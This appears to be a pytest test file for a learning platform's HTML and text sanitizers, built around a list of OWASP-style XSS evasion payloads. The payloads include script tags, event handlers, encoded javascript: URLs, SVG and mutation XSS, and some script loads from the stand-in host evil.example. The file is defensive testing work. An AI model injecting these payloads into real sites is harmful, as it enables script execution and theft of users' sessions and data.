"""clean_html / clean_text against an XSS filter-evasion corpus.

The output is parsed with a spec-compliant HTML parser (html5lib, as browsers
parse) and with Python's html.parser, and every element, attribute and URL is
checked, instead of only looking for substrings.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from xml.etree.ElementTree import Element

import pytest
from bleach._vendor import html5lib
from django.template import Context, Template
from django.utils.safestring import SafeString

from lms.sanitizing import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, clean_html, clean_text

REL = "nofollow noopener noreferrer"

# OWASP XSS filter-evasion cheat sheet style payloads, plus mutation XSS.
XSS_PAYLOADS: list[str] = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    "<script>alert(1)",
    "<script src=//evil.example/x.js></script",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script\t type="text/javascript">alert(1)</script >',
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    '"><script>alert(1)</script>',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    '<p onmouseover="alert(1)">hover</p>',
    "<b/onclick=alert(1)>bold</b>",
    '<a href="https://example.org" onclick="alert(1)">link</a>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<table><tr><td colspan=2 onclick="alert(1)">cell</td></tr></table>',
    '<strong style="x" onmouseenter=alert(1)>s</strong>',
    # javascript:, data:, vbscript: URLs with encodings and variants
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    'alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    # svg / math
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
    "CLICK</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # style and expression()
    "<style>@import 'https://evil.example/x.css';</style><p>ok</p>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    '<link rel="stylesheet" href="javascript:alert(1);">',
    # iframe / object / embed / frames
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    # meta refresh, base href, form action
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,'
    'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    # mutation XSS, unclosed tags, comments, templates
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<p>text<!-- --><img src=x onerror=alert(1)><!-- --></p>",
    '<abbr title="x" onclick=alert(1)>A</abbr>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a href='javascript:alert(1)'",
    "<div><img src=x onerror=alert(1)",
    '<img """><script>alert(1)</script>">',
    "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
    "<?xml version='1.0'?><script>alert(1)</script>",
]

_DANGEROUS_URL = re.compile(r"^(javascript|vbscript|data|livescript|file):", re.I)
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data"}


def _elements(markup: str) -> list[Element]:
    """Every element a browser would build from `markup` (in a <div> context)."""
    fragment = html5lib.parseFragment(
        markup, treebuilder="etree", namespaceHTMLElements=False
    )
    return [element for element in fragment.iter() if isinstance(element.tag, str)][1:]


class _StdlibCollector(HTMLParser):
    """A second, different parser: the tags and attributes html.parser sees."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def _stdlib_tags(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _StdlibCollector()
    parser.feed(markup)
    parser.close()
    return parser.tags


def _normalised_url(value: str) -> str:
    # Browsers drop ASCII whitespace and control characters inside a scheme.
    return re.sub(r"[\x00-\x20]", "", value).lower()


def _local_name(tag: str) -> str:
    return tag.rsplit("}", 1)[-1].lower()


def assert_inert(markup: str) -> None:
    """Fail if `markup` could run script or load active content in a browser."""
    lowered = markup.lower()
    assert "<script" not in lowered
    assert "javascript:" not in _normalised_url(lowered)
    assert "vbscript:" not in _normalised_url(lowered)
    assert not re.search(r"<[^>]*\son\w+\s*=", lowered)

    for element in _elements(markup):
        name = _local_name(element.tag)
        assert name in ALLOWED_TAGS, f"element <{name}> survived in {markup!r}"
        allowed_attributes = set(ALLOWED_ATTRIBUTES.get(name, []))
        for attribute, value in element.attrib.items():
            attribute_name = _local_name(attribute)
            assert not attribute_name.startswith("on"), (attribute, markup)
            assert attribute_name in allowed_attributes, (name, attribute, markup)
            if attribute_name in _URL_ATTRIBUTES:
                assert not _DANGEROUS_URL.match(_normalised_url(value)), (value, markup)

    for name, attributes in _stdlib_tags(markup):
        assert name in ALLOWED_TAGS, f"html.parser sees <{name}> in {markup!r}"
        for attribute, value in attributes:
            assert not attribute.startswith("on"), (attribute, markup)
            if attribute in _URL_ATTRIBUTES and value is not None:
                assert not _DANGEROUS_URL.match(_normalised_url(value)), (value, markup)


def test_corpus_is_large_enough() -> None:
    assert len(XSS_PAYLOADS) >= 40
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


# Percent-encoding is not decoded in a URL scheme, so a browser treats this
# href as a relative path: the raw payload is already inert.
_INERT_AS_WRITTEN = {'<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>'}


@pytest.mark.parametrize("payload", sorted(set(XSS_PAYLOADS) - _INERT_AS_WRITTEN))
def test_the_inertness_check_rejects_each_raw_payload(payload: str) -> None:
    # Guards the guard: without clean_html every payload must fail the check.
    with pytest.raises(AssertionError):
        assert_inert(payload)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_clean_html_leaves_nothing_executable(payload: str) -> None:
    cleaned = clean_html(payload)

    assert isinstance(cleaned, SafeString)
    assert_inert(str(cleaned))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_clean_html_is_idempotent(payload: str) -> None:
    # Pages clean on save and again when rendering: a second pass changes nothing.
    once = clean_html(payload)

    assert clean_html(once) == once


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_clean_html_output_stays_inert_inside_a_template(payload: str) -> None:
    rendered = Template("<div>{{ value }}</div>").render(
        Context({"value": clean_html(payload)})
    )

    assert_inert(rendered.removeprefix("<div>").removesuffix("</div>"))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_clean_text_has_no_markup_left(payload: str) -> None:
    text = clean_text(payload)

    assert isinstance(text, str)
    assert not isinstance(text, SafeString)
    # Even unescaped, the stored text builds no element in a browser...
    assert _elements(text) == [], text
    assert "<script" not in text.lower()
    # ...and once auto-escaped, as every template does with plain text, no tag is left.
    rendered = Template("{{ value }}").render(Context({"value": text}))
    assert "<" not in rendered
    assert _elements(rendered) == []


def test_clean_text_never_turns_encoded_markup_into_tags() -> None:
    # Plain text is stored unescaped; entity-encoded markup must not become a tag
    # by that, and cleaning twice gives the same text (saving is idempotent).
    for payload in (
        "&lt;img src=x onerror=alert(1)&gt;",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "a < b & c > d",
    ):
        text = clean_text(payload)
        assert "<img" not in text
        assert clean_text(text) == text
    assert clean_text("a < b & c > d") == "a < b & c > d"
    rendered = Template("<p>{{ value }}</p>").render(
        Context({"value": clean_text("x < y")})
    )
    assert rendered == "<p>x &lt; y</p>"


def test_clean_html_drops_active_elements_with_their_content() -> None:
    cleaned = clean_html(
        "<p>before</p><script>alert('owned')</script><style>p{}</style>"
        "<iframe>frame text</iframe><noscript>ns</noscript><p>after</p>"
    )

    assert cleaned == "<p>before</p><p>after</p>"
    assert "alert" not in cleaned
    assert "frame text" not in cleaned


@pytest.mark.parametrize(
    "markup",
    [
        "<p>Hello <strong>world</strong> and <em>you</em></p>",
        "<h2>Title</h2><h3>Sub</h3><h4>Subsub</h4>",
        "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>",
        "<blockquote>quote</blockquote><pre>code  block</pre><code>x = 1</code>",
        "<p>H<sub>2</sub>O and E = mc<sup>2</sup></p>",
        "<p><b>b</b> <i>i</i> <u>u</u> <s>s</s></p><hr><p>a<br>b</p>",
        '<p><abbr title="Universal Design for Learning">UDL</abbr></p>',
        "<table><caption>Groups</caption><thead><tr>"
        '<th scope="col" colspan="2">Head</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>',
    ],
)
def test_allowed_formatting_survives_unchanged(markup: str) -> None:
    assert clean_html(markup) == markup


def test_disallowed_tags_are_stripped_but_their_text_kept() -> None:
    assert clean_html("<div><span>kept text</span></div>") == "kept text"
    assert clean_html('<p class="big" id="x" style="color:red">p</p>') == "<p>p</p>"


def test_links_get_safe_rel_and_keep_safe_hrefs() -> None:
    cleaned = clean_html(
        '<p><a href="https://example.org/a?b=1&amp;c=2" title="Ex" target="_blank" '
        'rel="opener">ex</a> <a href="mailto:pd@example.org">mail</a> '
        '<a href="/practices/">rel</a></p>'
    )

    links = [element for element in _elements(cleaned) if element.tag == "a"]
    assert [link.get("href") for link in links] == [
        "https://example.org/a?b=1&c=2",
        "mailto:pd@example.org",
        "/practices/",
    ]
    assert all(link.get("rel") == REL for link in links)
    assert all(link.get("target") is None for link in links)
    assert links[0].get("title") == "Ex"


def test_bare_urls_become_safe_links_but_not_inside_code() -> None:
    cleaned = clean_html(
        "<p>See https://example.org/x now</p><pre>http://a.example</pre>"
    )

    links = [element for element in _elements(cleaned) if element.tag == "a"]
    assert len(links) == 1
    assert links[0].get("href") == "https://example.org/x"
    assert links[0].get("rel") == REL
    assert "<pre>http://a.example</pre>" in cleaned


def test_dangerous_href_is_removed_but_link_text_kept() -> None:
    cleaned = clean_html('<a href="javascript:alert(1)">click</a>')

    (link,) = _elements(cleaned)
    assert link.get("href") is None
    assert link.text == "click"


def test_text_special_characters_are_escaped_in_html() -> None:
    assert clean_html("<p>a & b < c > d</p>") == "<p>a &amp; b &lt; c &gt; d</p>"


@pytest.mark.parametrize("empty", [None, ""])
def test_empty_values(empty: str | None) -> None:
    assert clean_html(empty) == ""
    assert isinstance(clean_html(empty), SafeString)
    assert clean_text(empty) == ""


def test_clean_html_trims_surrounding_whitespace() -> None:
    assert clean_html("  <p>x</p>\n ") == "<p>x</p>"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Tom & Jerry", "Tom & Jerry"),
        ("a < b and c > d", "a < b and c > d"),
        ("R&D <3", "R&D <3"),
        ("5 &lt; 6 &amp; 7", "5 < 6 & 7"),
        ("  spaced  ", "spaced"),
        ("<b>Bold</b> name", "Bold name"),
        ("Anne-Marie O'Neil", "Anne-Marie O'Neil"),
        ('Quote "this"', 'Quote "this"'),
        ("Zoë Ünal 山田", "Zoë Ünal 山田"),
        ("Dept<script>alert(1)</script>", "Dept"),
    ],
)
def test_clean_text_keeps_text_literally(value: str, expected: str) -> None:
    assert clean_text(value) == expected


def test_clean_text_result_is_escaped_once_when_rendered() -> None:
    rendered = Template("{{ value }}").render(
        Context({"value": clean_text("a & b < c")})
    )

    assert rendered == "a &amp; b &lt; c"
